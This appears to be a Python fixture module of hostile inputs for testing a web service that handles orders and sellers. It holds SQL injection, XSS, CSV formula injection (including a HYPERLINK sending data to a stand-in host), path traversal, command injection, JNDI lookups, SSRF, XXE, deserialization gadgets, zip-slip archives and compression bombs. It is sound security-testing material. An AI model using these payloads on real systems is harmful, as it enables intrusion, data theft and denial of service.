"""What is sent to do harm: texts, numbers, shapes and files, by what they would harm."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from typing import Any

MARK = "hostile5a1"
"""Stands in whatever would run in a browser."""
LOCAL = "file:" + "//"

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    '"; DELETE FROM items WHERE 1=1; --',
    "1; UPDATE keys SET tenant='main'",
    "' UNION SELECT secret_hash FROM keys --",
    "x' AND (SELECT count(*) FROM sqlite_master) > 0 --",
    "'; ATTACH DATABASE 'hostile.db' AS h; --",
    "\\'; COPY orders TO PROGRAM 'true'; --",
    "$$; SELECT pg_sleep(9); --",
    "%' ESCAPE '\\",
    "%",
    "_",
    "*",
    "other",
)
HTML = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"'onmouseover='{MARK}()",
    f"</script><script>{MARK}()</script>",
    f"</textarea></title></style><svg onload={MARK}()>",
    f"javascript:{MARK}()",
    f"JaVaScRiPt:{MARK}()//",
    f"data:text/html,<script>{MARK}()</script>",
    f"<!--><{MARK}>",
    f"{{{{ {MARK}.__class__ }}}}{{% raw %}}",
    f"]]><{MARK}/>",
    f"&lt;{MARK}&gt;&#60;b&#62;",
    f"`${{{MARK}}}`",
    f"\u2028{MARK}()\u2029",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x.example/?"&A1,"more")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '"=1+1"',
    "=1+1,=2+2",
    "=1+1;=2+2",
    "'=1+1",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    f"{LOCAL}/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fshop.db",
    "shop.db",
    "orders.csv/../../hostile",
    "C:\\hostile",
    "CON",
    ".",
    "..",
    "~root",
    "a/b/c",
    "x" * 255 + ".csv",
    "hostile\0.csv",
    "\\\\x.example\\share",
)
CODE = (
    "${jndi:ldap://x.example/a}",
    "$(touch hostile)",
    "`touch hostile`",
    "; touch hostile #",
    "| touch hostile",
    "%s%n%x{0.__class__}",
    "{0}{config}%(x)s",
    "__import__('os').system('touch hostile')",
    "*)(uid=*))(|(uid=*",
    "x\r\nSet-Cookie: hostile=1",
    "x\r\n\r\n<html>",
    "!!python/object/apply:os.system ['true']",
    f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{LOCAL}/etc/passwd">]><a>&b;</a>',
    "http://127.0.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:22/",
    "gopher://x.example/",
    "https://user:pass@x.example:99999/",
)
SIGNS = (
    "\0",
    "a\0b",
    "\ud800",
    "x\udfffx",
    "\U0010ffff",
    "\ufeff",
    "\u202egnp.exe",
    "\u200b",
    "e" + "\u0301" * 500,
    "\u0130\u0131\u1e9e\ufb03",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\x1b[2J\x07\x08\x7f",
    "\x85\xa0 ",
    "",
    " ",
    "x" * 5_000,
    "9" * 5_000,
    "é" * 70_000,
    "null",
    "NaN",
    "undefined",
    "\u0661\u0662\u0663",
    "\u00bd",
    "\u2460",
    "1_000",
    "0x10",
    "1e400",
    "-0",
    " 7 ",
    "--7",
    "1,000.5",
)
TIMES = (
    "0000-00-00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30T00:00:00Z",
    "2026-01-05T25:61:61Z",
    "2026-01-05T10:00:00+99:99",
    "2026-01-05",
    "2026-W01-1",
    "1e9",
    "-62135596801",
    "99999999999999",
    "2026-01-05T10:00:00.999999999999Z",
    "+12026-01-05T10:00:00Z",
    "1969-12-31T23:59:59Z",
)
NUMBERS: tuple[Any, ...] = (
    *(0, -1, 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 2**64, 10**30, 10**400),
    *(0.5, -0.0, 1e-320, 1e308, -1e308, 0.1 + 0.2),
)
RAW = ("1" * 5_000, "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "01", "+1", "0x1", "1.", "tru", "'x'", "\\u0000")
"""What stands in JSON as it is; some of it is none."""

DEEP: Any = "x"
for _ in range(150):
    DEEP = {"a": [DEEP]}
SHAPES: tuple[Any, ...] = (None, True, False, [], {}, [None], [[]], {"": ""}, ["x"] * 2_000, DEEP, {"$ref": "#"})
NAMES = ("#row", "#index", "#wrong", "tenant", "item_no", "", " ", "__class__", "__proto__", "from_", "row", "literal")
"""Names of fields that nobody may send, or that something of ours has."""

TEXTS = (*SQL, *HTML, *FORMULAS, *PATHS, *CODE, *SIGNS, *TIMES)
VALUES: tuple[Any, ...] = (*TEXTS, *NUMBERS, *SHAPES)


def _zip(size: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../hostile", b"0" * size)
    return file.getvalue()


BOMB = gzip.compress(bytes(64 << 20), 9)
"""64 MB in 64 kB."""

FILES: tuple[bytes, ...] = (
    b"",
    b"\0" * 100,
    b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff\x08\x06\0\0\0",
    b"MZ\x90\0\x03\0\0\0",
    b"\x7fELF\x02\x01\x01",
    b"PAR1\x15\x04\x15\xffPAR1",
    b"PAR1" + b"\xff" * 64 + b"\xff\xff\xff\x7fPAR1",
    b"SQLite format 3\0" + bytes(84),
    b"GIF89a\xff\xff\xff\xff<script>" + MARK.encode() + b"()</script>",
    b"\xff\xfe" + "seller,order_id\n1,2\n".encode("utf-16-le"),
    b"\xef\xbb\xbf",
    b"\xed\xa0\x80,\xc0\xaf\n\xff\n",
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    b"a=1&b=2&" + b"c=3&" * 3_000,
    b"{" * 50_000,
    b"[" * 50_000 + b"]" * 50_000,
    b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    b'{"orders": [{}], "orders": [{"seller": 1}]}',
    b'"' + b"\\" * 1_001 + b'"',
    b"null",
    b"[]",
    b"0",
    b"{}",
    b"\n" * 10_000,
    b"," * 5_000 + b"\n",
    b'"' * 5_001,
    b'"unclosed,\n' * 500,
    b"seller,seller,seller\n1,2,3\n",
    b"__proto__,constructor\n1,2\n",
    BOMB,
    gzip.compress(BOMB),
    BOMB[:2_000],
    _zip(1 << 20),
    json.dumps({"orders": [{"seller": "x"}] * 3_000}).encode(),
    b"pickle\x80\x04cos\nsystem\n(S'true'\ntR.",
)
TYPES = (
    "application/json",
    "text/csv",
    "application/x-ndjson",
    "application/vnd.apache.parquet",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/pdf",
    "text/html",
    "application/json; charset=utf-16",
    "application/xml",
    "x",
    "text/csv; header=\xff",
)
HEADERS: tuple[dict[str, str], ...] = (
    {"content-encoding": "gzip"},
    {"content-encoding": "br, gzip, deflate"},
    {"accept": "text/html"},
    {"accept": "application/xml;q=\xff"},
    {"accept-language": "'; --,<script>;q=1"},
    {"accept-language": "ar-" + "x" * 3_000},
    {"host": "x.example"},
    {"host": f"<{MARK}>"},
    {"x-forwarded-for": "'; DROP TABLE keys; --"},
    {"x-forwarded-host": "x.example"},
    {"x-forwarded-proto": "javascript"},
    {"x-http-method-override": "DELETE"},
    {"x-request-id": "x" * 64},
    {"x-request-id": f"<{MARK}>"},
    {"range": "bytes=0-0,1-1,-1"},
    {"if-none-match": '"' * 1_000},
    {"idempotency-key": "'; --"},
    {"idempotency-key": "x" * 300},
    {"idempotency-key": ""},
    {"idempotency-key": "\xff\xfe"},
    {"origin": "null"},
    {"cookie": "entrepost_session='; --; entrepost_news=%7B"},
    {"cookie": "entrepost_session=" + "a." * 1_000},
    {"cookie": "=;;=;$Version=1"},
    {"content-length": "0"},
    {"transfer-encoding": "chunked, chunked"},
    {"expect": "100-continue"},
)
